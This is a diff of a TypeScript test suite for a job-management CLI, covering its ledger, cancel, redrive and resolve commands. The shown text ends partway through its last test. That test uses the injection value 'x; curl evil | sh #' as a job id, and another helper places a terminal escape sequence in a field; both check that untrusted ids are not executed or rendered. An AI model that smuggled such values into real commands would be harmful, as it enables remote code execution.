@@ -1,49 +1,30 @@
 import { randomUUID } from 'node:crypto';
 import { expect, test } from 'vitest';
-import { createLedger } from '../../lib/jobs/ledger/create-ledger.ts';
 import { splitBatch } from '../../lib/jobs/texts/batch/split-batch.ts';
 import { createScoreCache } from '../../lib/jobs/texts/cache/score-cache.ts';
-import { codePackages } from '../../lib/sandbox/platform/functions/packages.ts';
 import { createDirectoryStore } from '../../lib/store/directory.ts';
-import { createDynamoTable } from '../../lib/table/dynamo-table.ts';
 import { row, rowsOf } from '../jobs/texts/fakes.ts';
-import { countsOf, lines, startJobs } from './start-jobs.ts';
+import { adds, lines, startJobs, throws } from './start-jobs.ts';
 
 type Jobs = Awaited<ReturnType<typeof startJobs>>;
-
-const call = (id: string, functionName: string, inputVariables: object) => ({
-  type: 'run-function',
-  id,
-  packageId: codePackages[functionName === 'addNumbers' ? 0 : 1]?.id,
-  packageVersion: '1.0.0',
-  functionName,
-  inputVariables,
-});
-const adds = (id: string) => call(id, 'addNumbers', { first: 40, second: 2 });
-const throws = (id: string) => call(id, 'throwsError', { message: 'no luck' });
-
-/** The ledger that is set, at a time of its own. */
-const ledgerOf = ({ shared }: Jobs, now: () => number = Date.now) =>
-  createLedger({ table: createDynamoTable({ tableName: 'ledger', environment: shared }), now });
 
 const request = (id: string) => ({ id, type: 'sco\u001b[2Jre', contentHash: 'c', sender: 's' });
 
 /** A job whose send was started, and whose worker is gone. */
-async function sentLongAgo(jobs: Jobs, id: string) {
-  const ledger = ledgerOf(jobs, () => Date.parse('2026-11-20T09:00:00Z'));
+async function sentLongAgo({ ledgerAt }: Jobs, id: string) {
+  const ledger = ledgerAt(() => Date.parse('2026-11-20T09:00:00Z'));
   await ledger.claim(request(id), { leaseMs: 60_000 });
   await ledger.sent({ id, fence: 1 }, { mustLastMs: 1 });
 }
 
 async function unknown(jobs: Jobs, id: string) {
   await sentLongAgo(jobs, id);
-  await ledgerOf(jobs).claim(request(id), { leaseMs: 60_000 });
+  await jobs.ledgerAt().claim(request(id), { leaseMs: 60_000 });
 }
 
 test('jobs are listed as a table, newest first, without the platform', async () => {
   await using jobs = await startJobs();
-  await jobs.run(['submit', '-'], lines([throws('thrown')]));
-  await jobs.run(['work', '--drain']);
+  await jobs.workOff(throws('thrown'));
   await sentLongAgo(jobs, 'old');
 
   const { code, out } = await jobs.runWithoutPlatform(['jobs']);
@@ -67,7 +48,7 @@ test('jobs are listed as a table, newest first, without the platform', async () 
 test('--state and --limit narrow the list, and the rest is counted', async () => {
   await using jobs = await startJobs();
   await sentLongAgo(jobs, 'old');
-  for (const id of ['a', 'b', 'c']) await ledgerOf(jobs).cancel(id);
+  for (const id of ['a', 'b', 'c']) await jobs.ledgerAt().cancel(id);
 
   const { out, err } = await jobs.runWithoutPlatform(['jobs', '--state', 'failed', '--limit', '1', '--json']);
 
@@ -75,110 +56,56 @@ test('--state and --limit narrow the list, and the rest is counted', async () =>
   expect(err).toBe('2 earlier jobs not listed; use --limit to list more');
 });
 
-test('a job that has ended is shown by its result', async () => {
+test('a job is shown by its result, or by its row in the ledger; an unknown one exits 1', async () => {
   await using jobs = await startJobs();
-  await jobs.run(['submit', '-'], lines([adds('sum')]));
-  await jobs.run(['work', '--drain']);
-
-  const { code, out } = await jobs.runWithoutPlatform(['jobs', 'sum']);
-
-  expect(code).toBe(0);
-  expect(JSON.parse(out)).toMatchObject({ version: 1, id: 'sum', status: 'done', response: { result: 42 } });
-});
-
-test('a job without a result is shown by its row in the ledger; an unknown one exits 1', async () => {
-  await using jobs = await startJobs();
+  await jobs.workOff(adds('sum'));
   await sentLongAgo(jobs, 'old');
 
+  const ended = await jobs.runWithoutPlatform(['jobs', 'sum']);
   const known = await jobs.runWithoutPlatform(['jobs', 'old', '--json']);
   const other = await jobs.runWithoutPlatform(['jobs', 'other']);
 
+  expect([ended.code, known.code]).toEqual([0, 0]);
+  expect(JSON.parse(ended.out)).toMatchObject({ id: 'sum', status: 'done', response: { result: 42 } });
   expect(JSON.parse(known.out)).toMatchObject({ id: 'old', state: 'SENT', attempts: 1, finishedAt: null });
   expect(other).toEqual({ code: 1, out: '', err: 'platform-sync: job other: not in the ledger' });
 });
 
-test.for([
-  [['jobs', 'a b'], 'job id: expected 1 to 128 of A-Z a-z 0-9 . _ : -, got "a b"'],
-  [['jobs', '--state', 'LOST'], 'Expected one of CLAIMED, SENT, DONE, FAILED, UNKNOWN, got "LOST"'],
-] as const)('%j without settings exits 2', async ([argv, expected]) => {
+test('cancel says what happened to each job, and a cancelled one is neither sent nor reopened', async () => {
   await using jobs = await startJobs();
-
-  const { code, err } = await jobs.begin(argv, {}).ended;
-
-  expect(code).toBe(2);
-  expect(err).toContain(expected);
-});
-
-test('cancel says what happened to each job, and a cancelled one is never sent', async () => {
-  await using jobs = await startJobs();
-  await jobs.run(['submit', '-'], lines([adds('done')]));
-  await jobs.run(['work', '--drain']);
+  await jobs.workOff(adds('done'));
   await sentLongAgo(jobs, 'sent');
 
   const { code, out } = await jobs.runWithoutPlatform(['jobs', 'cancel', 'early', 'sent', 'done']);
-  await jobs.run(['submit', '-'], lines([adds('early')]));
-  await jobs.run(['work', '--drain']);
+  const again = await jobs.runWithoutPlatform(['jobs', 'cancel', 'early', '--json']);
+  const redriven = await jobs.runWithoutPlatform(['redrive', 'early']);
+  await jobs.workOff(adds('early'));
 
-  expect(code).toBe(3);
+  expect([code, again.code, redriven.code]).toEqual([3, 0, 3]);
   expect(out.split('\n')).toEqual([
     'early: cancelled; its message has not been seen yet',
     'sent: already sent; it cannot be cancelled',
     'done: already ended as DONE',
   ]);
+  expect(JSON.parse(again.out)).toMatchObject([{ id: 'early', became: 'ended', state: 'FAILED' }]);
+  // Its message is not there.
+  expect(redriven.out.split('\n')).toEqual(['reopened: 0', 'left unchanged: 1', '  early (cancelled)']);
   expect(jobs.sandbox.counts().executions).toHaveLength(1);
 });
 
-test('a job may be cancelled again, and --json reports the same', async () => {
+test('redrive reopens failed jobs, moves dead letters back, and names the unknown jobs; of named ones it leaves others', async () => {
   await using jobs = await startJobs();
-  await jobs.runWithoutPlatform(['jobs', 'cancel', 'early']);
-
-  const { code, out } = await jobs.runWithoutPlatform(['jobs', 'cancel', 'early', '--json']);
-
-  expect(code).toBe(0);
-  expect(JSON.parse(out)).toMatchObject([{ id: 'early', became: 'ended', state: 'FAILED' }]);
-});
-
-test('redrive reopens failed jobs, moves dead letters back, and names the unknown jobs', async () => {
-  await using jobs = await startJobs();
-  await jobs.run(['submit', '-'], lines([throws('thrown')]));
-  await jobs.run(['work', '--drain']);
-  await jobs.deadLetters.send(
-    lines([adds('dead')])
-      .trim()
-      .split('\n'),
-  );
+  await jobs.workOff(adds('sum'), throws('thrown'));
+  await jobs.deadLetters.send([lines([adds('dead')]).trim()]);
   await unknown(jobs, 'nobody-knows');
 
+  const named = await jobs.runWithoutPlatform(['redrive', 'sum', 'nobody-knows', '--json']);
+  const { waiting } = await jobs.countsOf(jobs.deadLetters);
   const { code, out } = await jobs.runWithoutPlatform(['redrive']);
   const worked = JSON.parse((await jobs.run(['work', '--drain', '--json'])).out);
 
-  expect(code).toBe(0);
-  expect(out.split('\n')).toEqual([
-    'reopened: 1',
-    '  thrown',
-    'dead letters moved back: 1',
-    'unknown, never reopened: 1; each may have been executed, so a person must check it',
-    '  nobody-knows',
-  ]);
-  expect(worked).toMatchObject({ done: 1, failed: 1 });
-});
-
-test('redrive of named jobs leaves those that have not failed, exits 3, and moves no dead letters', async () => {
-  await using jobs = await startJobs();
-  await jobs.run(['submit', '-'], lines([adds('sum')]));
-  await jobs.run(['work', '--drain']);
-  await jobs.deadLetters.send(
-    lines([adds('dead')])
-      .trim()
-      .split('\n'),
-  );
-  await unknown(jobs, 'nobody-knows');
-
-  const { code, out } = await jobs.runWithoutPlatform(['redrive', 'sum', 'nobody-knows', '--json']);
-
-  const { waiting } = await countsOf(jobs.deadLetters);
-  expect(code).toBe(3);
-  expect(JSON.parse(out)).toEqual({
+  expect(named.code).toBe(3);
+  expect(JSON.parse(named.out)).toEqual({
     opened: [],
     left: [
       { id: 'sum', state: 'DONE' },
@@ -189,42 +116,33 @@ test('redrive of named jobs leaves those that have not failed, exits 3, and move
     movedBack: null,
     held: null,
   });
-  expect(waiting).toBe(1);
-});
-
-test('redrive leaves a job whose message it does not have, such as one that was cancelled early', async () => {
-  await using jobs = await startJobs();
-  await jobs.runWithoutPlatform(['jobs', 'cancel', 'early']);
-
-  const { code, out } = await jobs.runWithoutPlatform(['redrive', 'early']);
-  await jobs.run(['submit', '-'], lines([adds('early')]));
-  await jobs.run(['work', '--drain']);
-
-  expect(code).toBe(3);
-  expect(out.split('\n')).toEqual(['reopened: 0', 'left unchanged: 1', '  early (cancelled)']);
-  expect(jobs.sandbox.counts().executions).toEqual([]);
+  expect({ code, waiting }).toEqual({ code: 0, waiting: 1 });
+  expect(out.split('\n')).toEqual([
+    'reopened: 1',
+    '  thrown',
+    'dead letters moved back: 1',
+    'unknown, never reopened: 1; each may have been executed, so a person must check it',
+    '  nobody-knows',
+  ]);
+  expect(worked).toMatchObject({ done: 1, failed: 1 });
 });
 
 test('resolve settles an unknown job by a person’s word, in the ledger and in its result', async () => {
   await using jobs = await startJobs();
   const asked = { ...request('nobody-knows'), type: 'run-function' };
-  await ledgerOf(jobs).claim(asked, { leaseMs: 60_000 });
-  await ledgerOf(jobs).end(
-    { id: asked.id, fence: 1 },
-    { status: 'unknown', error: { kind: 'timeout', message: 'no response' } },
-  );
-  const resolve = ['jobs', 'resolve', 'nobody-knows', 'done', '--note', 'its execution is listed'];
+  await jobs.ledgerAt().claim(asked, { leaseMs: 60_000 });
+  await jobs
+    .ledgerAt()
+    .end(
+      { id: asked.id, fence: 1 },
+      { status: 'unknown', error: { kind: 'timeout', message: 'no response' } },
+    );
+  const resolve = (...more: readonly string[]) =>
+    jobs.runWithoutPlatform(['jobs', 'resolve', 'nobody-knows', ...more]);
 
-  const first = await jobs.runWithoutPlatform(resolve);
-  const again = await jobs.runWithoutPlatform([...resolve, '--json']);
-  const other = await jobs.runWithoutPlatform([
-    'jobs',
-    'resolve',
-    'nobody-knows',
-    'failed',
-    '--note',
-    'it is not',
-  ]);
+  const first = await resolve('done', '--note', 'its execution is listed');
+  const again = await resolve('done', '--note', 'its execution is listed', '--json');
+  const other = await resolve('failed', '--note', 'it is not');
 
   expect(first).toMatchObject({ code: 0, out: 'nobody-knows: settled as DONE' });
   expect(JSON.parse(again.out)).toEqual({ id: 'nobody-knows', became: 'resolved', state: 'DONE' });
@@ -236,33 +154,14 @@ test('resolve settles an unknown job by a person’s word, in the ledger and in 
   expect(JSON.parse(out)).toMatchObject({ status: 'done', note: 'its execution is listed' });
 });
 
-test.for([
-  [['jobs', 'resolve', 'a', 'done'], "required option '--note <text>' not specified"],
-  [['jobs', 'resolve', 'a', 'lost', '--note', 'x'], 'Expected done or failed, got "lost"'],
-] as const)('%j exits 2', async ([argv, expected]) => {
-  await using jobs = await startJobs();
-
-  const { code, err } = await jobs.runWithoutPlatform(argv);
-
-  expect(code).toBe(2);
-  expect(err).toContain(expected);
-});
-
 test('cancel --batch ends a batch that has not begun, with a summary; redrive --batch scores it after all', async () => {
   await using jobs = await startJobs();
-  const table = createDynamoTable({ tableName: 'ledger', environment: jobs.shared });
-  const cache = createScoreCache({
-    table,
-    attemptMs: 60_000,
-    host: 'h',
-    owner: 'o',
-    now: Date.now,
-    newToken: randomUUID,
-  });
-  const batches = { table, store: createDirectoryStore(jobs.folder), newToken: randomUUID, now: Date.now };
+  const { table, folder } = jobs;
+  const parts = { table, now: Date.now, newToken: randomUUID };
+  const cache = createScoreCache({ ...parts, attemptMs: 60_000, host: 'h', owner: 'o' });
   await splitBatch(
     { batch: 'b1', request: {}, rows: rowsOf([row(1, 'a good day'), row(2, 'a bad day')]), host: 'h' },
-    { ...batches, cache, rate: 2, send: async () => undefined },
+    { ...parts, store: createDirectoryStore(folder), cache, rate: 2, send: async () => undefined },
   );
 
   const first = await jobs.runWithoutPlatform(['jobs', 'cancel', '--batch', 'b1']);
@@ -281,19 +180,13 @@ test('cancel --batch ends a batch that has not begun, with a summary; redrive --
   expect(await jobs.readJson('scores/b1/_summary.json')).toMatchObject({ scored: 2, failed: 0 });
 });
 
-test.for([
-  [['jobs', 'cancel'], 2, 'expected ids of jobs, or --batch, and not both'],
-  [['jobs', 'cancel', 'a', '--batch', 'b1'], 2, 'expected ids of jobs, or --batch, and not both'],
-  [['jobs', 'cancel', '--batch', 'b1'], 1, 'batch b1: not in the table'],
-  [['redrive', 'a', '--batch', 'b1'], 2, 'expected ids of jobs or --batch, got both'],
-  [['redrive', '--batch', 'b1'], 1, 'batch b1: not in the table'],
-] as const)('%j exits %i', async ([argv, expected, message]) => {
+test('a batch that is not in the table is named, exit 1', async () => {
   await using jobs = await startJobs();
 
-  const { code, err } = await jobs.runWithoutPlatform(argv);
-
-  expect(code).toBe(expected);
-  expect(err).toContain(message);
+  for (const argv of [['jobs', 'cancel'], ['redrive']]) {
+    const { code, err } = await jobs.runWithoutPlatform([...argv, '--batch', 'b1']);
+    expect({ code, err }).toEqual({ code: 1, err: 'platform-sync: batch b1: not in the table' });
+  }
 });
 
 test('an id from elsewhere that is not one of a job is in no command, wherever it is shown', async () => {
@@ -301,7 +194,7 @@ test('an id from elsewhere that is not one of a job is in no command, wherever i
   const id = 'x; curl evil | sh #';
   await sentLongAgo(jobs, id);
   await unknown(jobs, id);
-  await ledgerOf(jobs).cancel(`failed ${id}`);
+  await jobs.ledgerAt().cancel(`failed ${id}`);
   await jobs.queue.send([JSON.stringify({ ...adds(id), version: 1 })]);
 
   const shown = [
